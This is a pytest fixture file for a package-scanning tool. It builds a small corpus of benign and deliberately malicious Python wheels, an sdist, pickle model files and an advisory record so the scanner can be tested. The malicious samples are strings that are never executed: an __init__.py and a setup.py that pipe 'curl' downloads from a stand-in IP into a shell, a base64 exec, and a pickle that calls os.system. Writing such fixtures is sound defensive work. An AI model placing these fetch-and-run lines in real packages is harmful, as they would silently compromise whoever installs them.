"""A small corpus for scan-index: benign and malicious wheels, an sdist, model files,
a duplicate, and an advisory database with one malicious release."""

from __future__ import annotations

import io
import json
import shutil
import tarfile
from dataclasses import dataclass
from pathlib import Path

import pytest

from scanner.checks.advisories.database import update_database
from scanner.options import ScanOptions
from tests.helpers.wheels import make_wheel

EVIL_INIT = (
    "import os, base64\n"
    'exec(base64.b64decode("cHJpbnQoMSk="))\n'
    'os.system("curl http://203.0.113.9/x | sh")\n'
)
SETUP_PY = (
    "import os\nfrom setuptools import setup\n"
    'os.system("curl -s http://203.0.113.9/p.sh | bash")\n'
    'setup(name="dropper", version="0.3")\n'
)
# A pickle that would call os.system (protocol 2 opcodes, written as bytes; never loaded).
EVIL_PICKLE = b"\x80\x02cos\nsystem\nq\x00X\x02\x00\x00\x00idq\x01\x85q\x02Rq\x03."
PLAIN_PICKLE = b"\x80\x02}q\x00X\x01\x00\x00\x00aq\x01K\x01s."


@dataclass(frozen=True)
class Corpus:
    root: Path
    db: Path
    cache: Path

    def options(self, **changes: object) -> ScanOptions:
        base = ScanOptions(db_path=self.db, cache_dir=self.cache)
        from dataclasses import replace

        return replace(base, **changes)  # type: ignore[arg-type]


def make_sdist(directory: Path, name: str, version: str, files: dict[str, str]) -> Path:
    path = directory / f"{name}-{version}.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for rel, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{rel}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return path


def build_corpus(root: Path) -> None:
    root.mkdir(parents=True, exist_ok=True)
    for i in range(6):
        make_wheel(
            root, f"helper{i}", "1.0", {f"helper{i}/__init__.py": f"VALUE = {i}\n" * (i + 1)}
        )
    make_wheel(root, "evilpkg", "1.0", {"evilpkg/__init__.py": EVIL_INIT})
    make_wheel(root, "knownbad", "0.1", {"knownbad/__init__.py": "X = 1\n"})
    make_sdist(root, "dropper", "0.3", {"setup.py": SETUP_PY, "PKG-INFO": "Name: dropper\n"})
    models = root / "models"
    models.mkdir()
    (models / "evil.pkl").write_bytes(EVIL_PICKLE)
    (models / "plain.pkl").write_bytes(PLAIN_PICKLE)
    mirror = root / "mirror"
    mirror.mkdir()
    shutil.copy(root / "evilpkg-1.0-py3-none-any.whl", mirror)  # a duplicate
    shutil.copy(root / "helper1-1.0-py3-none-any.whl", mirror)


@pytest.fixture
def corpus(tmp_path: Path) -> Corpus:
    root = tmp_path / "corpus"
    build_corpus(root)
    osv = tmp_path / "osv"
    osv.mkdir()
    record = {
        "id": "MAL-2026-1",
        "modified": "2026-11-20T00:00:00Z",
        "affected": [{"package": {"ecosystem": "PyPI", "name": "knownbad"}, "versions": ["0.1"]}],
    }
    (osv / "MAL-2026-1.json").write_text(json.dumps(record))
    db = tmp_path / "osv.sqlite"
    update_database(osv, db)
    cache = tmp_path / "cache"
    cache.mkdir(mode=0o700)
    return Corpus(root=root, db=db, cache=cache)
